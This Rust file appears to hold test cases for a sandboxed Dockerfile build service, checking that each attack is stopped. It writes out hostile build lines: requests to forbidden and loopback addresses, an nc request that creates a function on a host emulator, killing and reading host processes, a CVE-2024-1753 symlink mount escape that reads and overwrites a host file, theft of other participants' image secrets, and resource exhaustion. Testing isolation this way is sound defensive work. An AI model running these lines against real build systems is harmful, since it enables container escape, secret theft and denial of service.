//! Lines of a Dockerfile, which the build runs.

use domain::FailureCode::{self, BuildFailed};

use super::{AMPLE, DONE};
use crate::arena::BASE;
use crate::case::{Attack, Case, Control, End, Group, Sign};
use crate::scene::Scene;
use crate::world::{HOST_INSIDE, NEIGHBOUR, OWN, REFUSED, get};

fn lines(
    name: impl Into<String>,
    defence: &'static str,
    text: impl Fn(&Scene) -> String + Send + Sync + 'static,
    end: End,
    control: Control,
) -> Case {
    Case::new(Group::Dockerfiles, name, defence, Attack::Lines(Box::new(text)), end, control)
}

const FAILED: End = End::Rejected(BuildFailed, 1, 0);
/// Refused before the build.
const REFUSED_BY_NAME: End = End::Rejected(FailureCode::BuildFailed, 0, 0);

/// Requests from RUN and ADD to every address that a build may not use.
fn cases_of_addresses() -> Vec<Case> {
    let mut cases = Vec::new();
    for address in REFUSED.into_iter().chain([OWN, NEIGHBOUR]) {
        let ask = move |scene: &Scene| format!("RUN {}; true", get(address, 80, &scene.token));
        let case = lines(
            format!("RUN asks {address}"),
            "packet filter",
            ask,
            End::Completed,
            Control::Unfiltered(Sign::Asked),
        );
        cases.push(if address == REFUSED[0] { case.representative() } else { case });
    }
    for address in [REFUSED[0], REFUSED[1], REFUSED[2], OWN] {
        let add = move |scene: &Scene| format!("ADD http://{address}/{} /got", scene.token);
        cases.push(lines(
            format!("ADD from {address}"),
            "packet filter",
            add,
            FAILED,
            Control::Unfiltered(Sign::Asked),
        ));
    }
    let host = |scene: &Scene| format!("RUN {}; true", get(HOST_INSIDE, scene.port, &scene.token));
    cases.push(lines(
        "RUN asks the host's loopback by slirp4netns",
        "packet filter",
        host,
        End::Completed,
        Control::Unfiltered(Sign::Asked),
    ));
    let host = |scene: &Scene| format!("ADD http://{HOST_INSIDE}:{}/{} /got", scene.port, scene.token);
    cases.push(lines(
        "ADD from the host's loopback by slirp4netns",
        "packet filter",
        host,
        FAILED,
        Control::Unfiltered(Sign::Asked),
    ));
    let own = |scene: &Scene| format!("RUN {}; true", get("127.0.0.1", scene.port, &scene.token));
    cases.push(lines("RUN asks 127.0.0.1", "network namespace", own, End::Completed, Control::Bare(Sign::Asked)));
    let own = |scene: &Scene| format!("ADD http://127.0.0.1:{}/{} /got", scene.port, scene.token);
    cases.push(lines("ADD from 127.0.0.1", "network namespace", own, FAILED, Control::Bare(Sign::Asked)));
    cases
}

/// Requests to the emulator that create a function, which would run on the host.
fn cases_of_the_emulator() -> Vec<Case> {
    let create = |address: &'static str| {
        move |scene: &Scene| {
            let function = format!(
                r#"{{"FunctionName":"{}","Runtime":"provided.al2023","Handler":"x","Role":"arn:aws:iam::000000000000:role/x","Code":{{"ZipFile":"UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="}}}}"#,
                scene.token
            );
            format!(
                "RUN printf 'POST /2015-03-31/functions HTTP/1.0\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\n\\r\\n{function}' | nc -w 5 {address} {}; true",
                function.len(),
                scene.emulator
            )
        }
    };
    vec![
        lines(
            "RUN creates a function at 127.0.0.1",
            "network namespace and the run's secret",
            create("127.0.0.1"),
            End::Completed,
            Control::Bare(Sign::Function),
        ),
        lines(
            "RUN creates a function by slirp4netns",
            "packet filter and the run's secret",
            create(HOST_INSIDE),
            End::Completed,
            Control::Unfiltered(Sign::Function),
        )
        .representative(),
    ]
}

fn cases_of_processes() -> Vec<Case> {
    vec![
        lines(
            "RUN kills a process of the host",
            "process namespace",
            |scene| format!("RUN kill -9 {}; true", scene.pid),
            End::Completed,
            Control::Bare(Sign::Killed),
        )
        .representative(),
        lines(
            "RUN reads the command line of a process of the host",
            "process namespace",
            |scene| format!("RUN tr '\\0' ' ' </proc/{}/cmdline; true", scene.pid),
            End::Completed,
            Control::Bare(Sign::Secret),
        ),
        lines(
            "RUN leaves a process behind",
            "end of the enclosure",
            |scene| format!("RUN setsid sleep {} >/dev/null 2>&1 & true", scene.seconds),
            End::Completed,
            Control::Bare(Sign::Left),
        ),
        lines(
            "RUN mounts the host's root through a link (CVE-2024-1753)",
            "root of the enclosure",
            |scene| {
                let at = format!("/x{}", scene.file().display());
                format!(
                    "RUN true\nFROM {BASE} AS e\nRUN ln -s / /r\nFROM {BASE}\n\
                     RUN --mount=type=bind,from=e,source=/r,destination=/x,rw cat {at}; echo changed >{at}; true"
                )
            },
            End::Completed,
            Control::Bare(Sign::SecretAndChange),
        )
        .representative(),
    ]
}

/// Images that are none of the submission's business.
fn cases_of_images() -> Vec<Case> {
    let other = |line: &'static str| {
        move |scene: &Scene| {
            line.replace("OTHER", &format!("127.0.0.1:{}/{}:latest", scene.emulator, scene.other.repository))
        }
    };
    let whole = |name: &str, line: &'static str| {
        Case::new(
            Group::Dockerfiles,
            name,
            "images by name",
            Attack::Dockerfile(Box::new(other(line))),
            REFUSED_BY_NAME,
            Control::Bare(Sign::OtherSecret),
        )
    };
    vec![
        whole("FROM another participant's image", "FROM OTHER\nRUN cat /secret\n").representative(),
        whole(
            "COPY --from another participant's image",
            "FROM scratch AS s\nFROM public.ecr.aws/docker/library/busybox:1.37\nCOPY --from=OTHER /secret /got\nRUN cat /got\n",
        ),
        whole(
            "RUN --mount from another participant's image",
            "FROM public.ecr.aws/docker/library/busybox:1.37\nRUN --mount=type=bind,from=OTHER,destination=/x cat /x/secret\n",
        ),
    ]
}

/// What a build may use. Each attack ends by itself, and gets to its end if there is enough.
fn cases_of_limits() -> Vec<Case> {
    vec![
        lines(
            "RUN takes 1 GB of memory",
            "memory of the enclosure",
            |_| format!("RUN awk 'BEGIN {{ t = \"x\"; while (length(t) < 1000000000) t = t t; print \"{DONE}\" }}'"),
            FAILED,
            Control::Roomy(AMPLE, Sign::Word(DONE)),
        ),
        lines(
            "RUN starts 3,000 processes",
            "processes of the enclosure",
            |scene| format!("RUN for i in $(seq 3000); do sleep {} & done && echo {DONE}", scene.seconds),
            FAILED,
            Control::Roomy(AMPLE, Sign::Word(DONE)),
        ),
        lines(
            "RUN writes 1.5 GB",
            "disk of the enclosure",
            |_| format!("RUN head -c 1500m /dev/zero >/big && rm /big && echo {DONE}"),
            FAILED,
            Control::Roomy(AMPLE, Sign::Word(DONE)),
        ),
    ]
}

pub(super) fn cases() -> Vec<Case> {
    [cases_of_addresses(), cases_of_the_emulator(), cases_of_processes(), cases_of_images(), cases_of_limits()]
        .into_iter()
        .flatten()
        .collect()
}
